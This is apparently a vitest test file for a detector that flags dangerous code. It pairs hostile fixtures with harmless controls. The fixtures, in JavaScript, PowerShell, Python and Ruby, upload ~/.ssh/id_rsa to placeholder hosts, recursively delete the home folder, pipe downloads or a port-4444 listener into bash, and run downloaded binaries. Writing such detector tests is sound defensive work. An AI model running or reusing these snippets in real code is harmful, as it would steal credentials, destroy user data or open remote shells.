import { describe, expect, it } from 'vitest';
import { rulesOf } from './rules-of.ts';

/** Inert: hosts are reserved (RFC 2606) or for documentation (RFC 5737), and nothing of it is run. */
const IN = 'https://collect.example.invalid/in';

/** Each with a private file and with one that is none, in the place of `FILE`. */
const SENT: Readonly<Record<string, readonly [path: string, code: string]>> = {
  'a file that superagent attaches': [
    'run.js',
    `const os = require('os');\nrequire('superagent').post('${IN}').attach('f', os.homedir() + 'FILE').then(() => {});`,
  ],
  'a file that a mail takes along': [
    'run.mjs',
    `import nodemailer from 'nodemailer';\nimport os from 'node:os';\nconst mail = nodemailer.createTransport({ host: 'mail.example.invalid' });\nawait mail.sendMail({ to: 'b@example.invalid', attachments: [{ path: os.homedir() + 'FILE' }] });`,
  ],
  'a file that is put on a server': [
    'run.js',
    `const ftp = require('basic-ftp');\nconst os = require('os');\n(async () => {\n  const client = new ftp.Client();\n  await client.access({ host: '198.51.100.7' });\n  await client.uploadFrom(os.homedir() + 'FILE', 'row');\n})();`,
  ],
  'a file that a channel gets': [
    'run.js',
    `const { WebhookClient } = require('discord.js');\nnew WebhookClient({ url: '${IN}' }).send({ files: [process.env.HOME + 'FILE'] });`,
  ],
  'a form that sends itself': [
    'run.js',
    `const FormData = require('form-data');\nconst fs = require('fs');\nconst form = new FormData();\nform.append('f', fs.createReadStream(process.env.HOME + 'FILE'));\nform.submit('${IN}');`,
  ],
  'the body of a request of needle': [
    'run.js',
    `const fs = require('fs');\nrequire('needle').post('${IN}', { k: fs.readFileSync(process.env.HOME + 'FILE', 'utf8') }, () => {});`,
  ],
  '-InFile': ['run.ps1', `Invoke-RestMethod ${IN} -Method Put -InFile "$env:USERPROFILEFILE"`],
  '-Attachments': [
    'run.ps1',
    'Send-MailMessage -To b@example.invalid -SmtpServer mail.example.invalid -Attachments "$HOMEFILE"',
  ],
  'Join-Path in functions': [
    'run.ps1',
    `function Get-Row { param($Name) Get-Content (Join-Path $HOME $Name) -Raw }\nfunction Send-Row { param($Body) Invoke-RestMethod -Uri '${IN}' -Method Post -Body $Body }\nSend-Row (Get-Row 'FILE')`,
  ],
  'UploadFile of a WebClient': [
    'run.ps1',
    `$client = New-Object System.Net.WebClient\n$client.UploadFile('${IN}', "$HOMEFILE")`,
  ],
  'a copy of a file': [
    'run.ps1',
    `Copy-Item "$HOMEFILE" "$env:TEMP\\row.db"\nInvoke-WebRequest ${IN} -Method Post -InFile "$env:TEMP\\row.db"`,
  ],
  'a packed file': [
    'run.ps1',
    `Compress-Archive -Path "$HOMEFILE" -DestinationPath "$env:TEMP\\rows.zip"\nInvoke-WebRequest ${IN} -Method Post -InFile "$env:TEMP\\rows.zip"`,
  ],
};

describe('an ordinary way to send a private file', () => {
  it.each(Object.entries(SENT))(
    'is seen, and that of another file is not taken for it: %s',
    async (_, [path, code]) => {
      expect(await rulesOf({ [path]: code.replace('FILE', '/.ssh/id_rsa') })).toContain(
        'secret-file-to-network',
      );
      expect(await rulesOf({ [path]: code.replace('FILE', '/notes/week.md') })).not.toContain(
        'secret-file-to-network',
      );
    },
  );
});

/** Each deletes the folder in the place of `PLACE`. */
const DELETED: Readonly<Record<string, readonly [path: string, code: string, home: string, own: string]>> = {
  'a variable of the environment, as a word': [
    'run.js',
    "require('child_process').spawn('rm', ['-rf', PLACE]);",
    'process.env.HOME',
    "process.env.HOME + '/.cache/rows'",
  ],
  'a variable that is taken apart': [
    'run.js',
    "const { HOME } = process.env;\nrequire('fs').rmSync(PLACE, { recursive: true });",
    'HOME',
    '`${HOME}/.cache/rows`',
  ],
  'a folder that is not known': [
    'run.js',
    "const os = require('os');\nconst path = require('path');\nrequire('fs').rmSync(PLACE, { recursive: true });",
    'os.homedir()',
    'path.join(os.homedir(), process.argv[2])',
  ],
  rimraf: [
    'run.mjs',
    "import { rimraf } from 'rimraf';\nimport os from 'node:os';\nawait rimraf(PLACE);",
    '[os.homedir()]',
    "['dist', 'coverage']",
  ],
  'a variable in Python': [
    'run.py',
    'import os, shutil\nshutil.rmtree(PLACE)',
    "os.environ['HOME']",
    "os.path.join(os.environ['HOME'], '.cache', 'rows')",
  ],
  PowerShell: [
    'run.ps1',
    'Remove-Item -Recurse -Force PLACE',
    '$env:USERPROFILE',
    '"$env:USERPROFILE\\rows\\dist"',
  ],
  Ruby: ['run.rb', "require 'fileutils'\nFileUtils.rm_rf(PLACE)", "ENV.fetch('HOME')", "'_site'"],
};

describe('the home folder is deleted', () => {
  it.each(Object.entries(DELETED))('whatever names it: %s', async (_, [path, code, home, own]) => {
    expect(await rulesOf({ [path]: code.replace('PLACE', home) })).toContain('home-or-root-deleted');
    expect(await rulesOf({ [path]: code.replace('PLACE', own) })).not.toContain('home-or-root-deleted');
  });
});

/** Each starts `PROGRAM` and lets it read what is downloaded. */
const FED: Readonly<Record<string, readonly [path: string, code: string]>> = {
  'a response that is piped in': [
    'run.js',
    `const { spawn } = require('child_process');\nconst child = spawn('PROGRAM', ['-s']);\nrequire('https').get('${IN}', (res) => res.pipe(child.stdin));`,
  ],
  'parts that are written in a callback': [
    'run.js',
    `const { spawn } = require('child_process');\nconst child = spawn('PROGRAM');\nrequire('https').get('${IN}', (res) => { res.on('data', (part) => child.stdin.write(part)); });`,
  ],
  'an attribute of an object': [
    'run.ts',
    `import * as tls from 'tls';\nimport { spawn } from 'child_process';\nclass Link {\n  private child = spawn('PROGRAM');\n  constructor(host: string) { tls.connect(443, host).pipe(this.child.stdin); }\n}\nnew Link('collect.example.invalid');`,
  ],
  'whoever connects': [
    'run.js',
    "const net = require('net');\nconst { spawn } = require('child_process');\nnet.createServer((peer) => { const child = spawn('PROGRAM'); peer.pipe(child.stdin); }).listen(4444);",
  ],
};

describe('a program that runs', () => {
  it.each(Object.entries(FED))(
    'runs what is written to it, if it is a shell: %s',
    async (_, [path, code]) => {
      expect(await rulesOf({ [path]: code.replace('PROGRAM', 'bash') })).toContain('downloaded-code-runs');
      expect(await rulesOf({ [path]: code.replace('PROGRAM', 'gzip') })).not.toContain(
        'downloaded-code-runs',
      );
    },
  );
});

/** Each reads all that it finds in `FOLDER` and sends it. */
const FOUND: Readonly<Record<string, readonly [path: string, code: string]>> = {
  'glob in JavaScript': [
    'run.js',
    `const { globSync } = require('glob');\nconst fs = require('fs');\nfor (const file of globSync(process.env.HOME + '/FOLDER/id_*')) fetch('${IN}', { method: 'POST', body: fs.readFileSync(file) });`,
  ],
  'a pipeline of PowerShell': [
    'run.ps1',
    `Get-ChildItem "$HOME/FOLDER" -Filter 'id_*' | ForEach-Object { Invoke-RestMethod ${IN} -Method Post -Body (Get-Content $_.FullName -Raw) }`,
  ],
};

describe('files that are found', () => {
  it.each(Object.entries(FOUND))('are secret where secrets are kept: %s', async (_, [path, code]) => {
    expect(await rulesOf({ [path]: code.replace('FOLDER', '.ssh') })).toContain('secret-file-to-network');
    expect(await rulesOf({ [path]: code.replace('FOLDER', 'notes') })).not.toContain(
      'secret-file-to-network',
    );
  });
});

describe('a download that a stream writes', () => {
  const run = (ending: string): string =>
    `const fs = require('fs');\nconst { spawn } = require('child_process');\nconst file = fs.createWriteStream('/tmp/helper');\nrequire('https').get('${IN}', (res) => {\n  ${ending}\n  file.on('finish', () => spawn('/tmp/helper', { detached: true }));\n});`;

  it.each(['res.pipe(file);', "res.on('data', (part) => file.write(part));"])(
    'is started as the file that it became: %s',
    async (ending) => {
      expect(await rulesOf({ 'run.js': run(ending) })).toContain('downloaded-code-runs');
      expect(
        await rulesOf({ 'run.js': run(ending).replace("spawn('/tmp/helper'", "spawn('/usr/bin/less'") }),
      ).not.toContain('downloaded-code-runs');
    },
  );
});
